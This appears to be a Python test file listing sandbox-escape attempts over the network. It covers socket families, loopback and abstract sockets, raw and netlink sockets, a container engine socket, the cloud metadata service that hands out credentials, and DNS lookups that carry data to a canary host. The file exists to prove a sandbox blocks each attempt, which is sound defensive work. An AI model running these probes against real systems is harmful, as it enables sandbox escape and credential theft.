"""Attacks on the network: ways to be heard by anything outside the sandbox."""

from __future__ import annotations

import socket
from typing import TYPE_CHECKING, Final

from tests.escape.attack import Attack, reaches, says, unrecorded

if TYPE_CHECKING:
    from tests.escape.attack import Seen
    from tests.escape.ground import Ground

_OPEN: Final = ("landlock", "net", "seccomp")
_SAYS_IF_OPENED: Final = "if descriptor is not None and descriptor >= 0: won(descriptor)"


def _answers_from_host(_: Ground, seen: Seen) -> bool:
    """The host can connect to the port that the code says it listens on."""
    port = seen.result.stdout.rpartition("port ")[2].strip()
    if not port.isdigit():
        return False
    try:
        socket.create_connection(("127.0.0.1", int(port)), 1).close()
    except OSError:
        return False
    return True


def _family(number: int, name: str, why: str, *, recorded: str = "") -> Attack:
    """`recorded` is how a refusal is told; the first two families fail without a word, as the C library tries them."""
    code = f"""
for kind in (1, 2, 3, 5):
    descriptor = call("socket", {number}, kind, 0)
    if descriptor >= 0: won(kind)
"""
    judge = unrecorded(f"socket {recorded} SOCK_RAW") if recorded else says
    return Attack(f"network-family-{name}", f"A socket of {name.upper()}: {why}", code, judge, ("call socket",))


FAMILIES: Final = (
    _family(1, "unix", "the host's daemons listen on path and abstract sockets."),
    _family(16, "netlink", "it configures interfaces, routes and firewalls, and tells what the kernel sees."),
    _family(2, "inet", "the network.", recorded="AF_INET"),
    _family(10, "inet6", "the network.", recorded="AF_INET6"),
    _family(17, "packet", "raw frames, below every firewall.", recorded="AF_PACKET"),
    _family(15, "key", "IPsec's keys.", recorded="family 15"),
    _family(29, "can", "a car's bus.", recorded="family 29"),
    _family(31, "bluetooth", "radio, with a long record of kernel bugs.", recorded="family 31"),
    _family(38, "alg", "the kernel's ciphers, with a long record of kernel bugs.", recorded="AF_ALG"),
    _family(40, "vsock", "the hypervisor; no network namespace confines it.", recorded="AF_VSOCK"),
    _family(44, "xdp", "frames straight from the driver.", recorded="family 44"),
    _family(45, "mctp", "the board's management controller.", recorded="family 45"),
)

ATTACKS: Final = (
    *FAMILIES,
    Attack(
        "network-every-family",
        "Any family at all, 0 to 45 and beyond, in case one was forgotten.",
        """
for family in range(64):
    for kind in (1, 2, 3, 4, 5, 6, 10):
        descriptor = call("socket", family, kind | 0x80000, 0)
        if descriptor >= 0: won(family, kind)
""",
        says, ("call socket",),
    ),
    Attack(
        "network-family-high-bits",
        "Families with a bit set above the 32 that the kernel reads: a filter that compares all 64 lets them pass.",
        """
for family in (1, 2, 10, 16):
    for high in (1 << 32, 1 << 63 - 1, -1 << 32):
        descriptor = call("socket", family | high, 1, 0)
        if descriptor >= 0: won(family)
""",
        says, ("call socket",),
    ),
    Attack(
        "network-loopback",
        "The host's services on 127.0.0.1.",
        "s = attempt(socket.socket)\nif s: s.settimeout(2); s.connect(('127.0.0.1', @tcp@)); s.sendall(b'x')",
        reaches("tcp"), _OPEN,
    ),
    Attack(
        "network-loopback-any-address",
        "0.0.0.0 is this host too, and filters forget it.",
        "s = attempt(socket.socket)\nif s: s.settimeout(2); s.connect(('0.0.0.0', @tcp@)); s.sendall(b'x')",
        reaches("tcp"), _OPEN,
    ),
    Attack(
        "network-loopback-6",
        "The host's services on ::1.",
        "s = attempt(socket.socket, socket.AF_INET6)\nif s: s.settimeout(2); s.connect(('::1', @tcp6@)); s.sendall(b'x')",
        reaches("tcp6"), _OPEN,
    ),
    Attack(
        "network-loopback-mapped",
        "IPv4 inside an IPv6 socket, ::ffff:127.0.0.1.",
        "s = attempt(socket.socket, socket.AF_INET6)\n"
        "if s: s.settimeout(2); s.connect(('::ffff:127.0.0.1', @tcp@)); s.sendall(b'x')",
        reaches("tcp"), _OPEN,
    ),
    Attack(
        "network-datagram",
        "One datagram needs no connection.",
        "s = attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)\nif s: s.sendto(b'x', ('127.0.0.1', @udp@))",
        reaches("udp"), _OPEN,
    ),
    Attack(
        "network-fast-open",
        "TCP Fast Open connects by sendto, without connect.",
        "s = attempt(socket.socket)\nif s: s.settimeout(2); s.sendto(b'x', 0x20000000, ('127.0.0.1', @tcp@))",
        reaches("tcp"), _OPEN,
    ),
    Attack(
        "network-native",
        "Straight from C, past everything that Python could patch.",
        """
descriptor = call("socket", 2, 1, 0)
print(descriptor, call("connect", descriptor, struct.pack("=H", 2) + struct.pack("!H4s8x", @tcp@, bytes([127, 0, 0, 1])), 16))
""",
        reaches("tcp"), _OPEN,
    ),
    Attack(
        "network-listen",
        "A door for others: listen, and have the host connect.",
        "s = attempt(socket.create_server, ('0.0.0.0', 0))\nif s: print('port', s.getsockname()[1])",
        _answers_from_host, _OPEN,
    ),
    Attack(
        "network-metadata",
        "The cloud's metadata service hands out the machine's credentials.",
        "s = attempt(socket.create_connection, ('169.254.169.254', 80), 1)\nif s: won()",
        unrecorded("socket AF_INET SOCK_STREAM"), ("call socket",),
    ),
    Attack(
        "network-dns",
        "A name's lookup carries data out.",
        "attempt(socket.getaddrinfo, 'canary.example.org', 80)\nanswer = ctypes.create_string_buffer(512)\n"
        "for name in ('res_query', '__res_query'):\n"
        " resolve = getattr(ctypes.CDLL('libresolv.so.2'), name, None)\n"
        " if resolve: print(resolve(b'canary.example.org', 1, 1, answer, 512))",
        unrecorded("socket AF_INET SOCK_DGRAM"), ("call socket",),
    ),
    Attack(
        "network-dns-by-hand",
        "The same past the C library: a query to resolvers on the host and beyond.",
        "s = attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)\n"
        "if s:\n for place in ('127.0.0.1', '127.0.0.53'): s.sendto(b'\\x12\\x34\\x01\\0\\0\\x01' + bytes(6), (place, @udp@))",
        reaches("udp"), _OPEN,
    ),
    Attack(
        "network-raw",
        "Raw IP and the ping socket, which many hosts open to everyone.",
        "for kind, protocol in ((3, 1), (2, 1), (3, 255)):\n descriptor = call('socket', 2, kind, protocol)\n "
        + _SAYS_IF_OPENED,
        unrecorded("socket AF_INET SOCK_RAW"), ("call socket",),
    ),
    Attack(
        "network-interfaces",
        "Bring an interface up, or make one, by netlink.",
        """
s = attempt(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 0)
if s:
    s.send(struct.pack("=LHHLLBxHiII", 32, 18, 0x301, 1, 0, 0, 0, 0, 0, 0))
    if len(s.recv(65536)) > 40: won()
""",
        says, ("call socket",),
    ),
    Attack(
        "network-path-socket",
        "A daemon's socket in a folder that was handed over, such as a container engine's.",
        "s = attempt(socket.socket, socket.AF_UNIX)\nif s: s.connect('data/data-given/socket'); s.sendall(b'x')",
        reaches("path"), ("seccomp",),
    ),
    Attack(
        "network-path-datagram",
        "The same with a datagram socket, in a folder that may be written.",
        "s = attempt(socket.socket, socket.AF_UNIX, socket.SOCK_DGRAM)\nif s: s.sendto(b'x', '@folder@/writable/datagram')",
        reaches("path-datagram"), ("seccomp",), policy={"files.write": ["@folder@/writable"]},
    ),
    Attack(
        "network-abstract-socket",
        "Abstract sockets have no file that a mount could hide: session buses, X11, container engines.",
        "s = attempt(socket.socket, socket.AF_UNIX)\nif s: s.connect('\\0fumehood-canary-@pid@'); s.sendall(b'x')",
        reaches("abstract"), _OPEN,
    ),
    Attack(
        "network-pair-to-abstract",
        "A datagram pair needs no socket(), and its ends may send to any name.",
        """
pair = attempt(socket.socketpair, socket.AF_UNIX, socket.SOCK_DGRAM)
if pair: pair[0].sendto(b'x', '\\0fumehood-canary-datagram-@pid@')
""",
        reaches("abstract-datagram"), ("landlock", "net", "call socketpair"),
    ),
    Attack(
        "network-pair-reconnected",
        "The allowed kinds of pairs, connected anew or addressed elsewhere.",
        """
for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
    a, b = socket.socketpair(socket.AF_UNIX, kind)
    b.close()
    for name in ("\\0fumehood-canary-@pid@", "\\0fumehood-canary-datagram-@pid@"):
        attempt(a.sendto, b"x", name)
        attempt(a.sendmsg, [b"x"], [], 0, name)
        attempt(a.connect, name)
""",
        lambda ground, _: ground.heard("abstract") or ground.heard("abstract-datagram"),
        unproved="the kernel itself connects a connected stream to nothing else",
    ),
    Attack(
        "network-runner-channel",
        "The one socket that the code has, connected anew, bound, or made to listen.",
        """
s = socket.socket(fileno=os.dup(3))
for action in (lambda: s.connect("\\0fumehood-canary-@pid@"), lambda: s.bind("\\0x"), s.listen,
               lambda: s.sendto(b"x", "\\0fumehood-canary-datagram-@pid@")):
    attempt(action)
""",
        lambda ground, _: ground.heard("abstract") or ground.heard("abstract-datagram"),
        unproved="the kernel itself connects a connected stream to nothing else",
    ),
    Attack(
        "network-pair-of-other-family",
        "socketpair() for other families than Unix.",
        """
import array
for family in range(64):
    pair = array.array("i", [0, 0])
    if family != 1 and call("socketpair", family, 1, 0, pair.buffer_info()[0]) == 0: won(family)
    if call("socketpair", family, 2, 0, pair.buffer_info()[0]) == 0: won(family)
""",
        says, ("call socketpair",),
    ),
)  # fmt: skip
